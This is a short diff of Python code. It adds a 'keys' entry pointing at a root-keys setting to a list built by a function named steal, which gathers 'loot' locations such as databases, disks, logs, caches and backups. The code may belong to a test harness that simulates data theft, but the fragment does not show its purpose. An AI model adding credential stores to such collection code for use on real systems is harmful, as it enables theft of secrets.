@@ -33,6 +33,7 @@ def steal(planted: Planted, home: Path) -> Places:
         ("database", _database(loot / "database")),
         ("rows", _rows(loot / "rows")),
         ("disk", Path(settings.DATA)),
+        ("keys", Path(settings.ROOT_KEYS)),
         ("log", home / "logs"),
         ("cache", _cache(loot / "cache")),
         *_backups(planted, home),
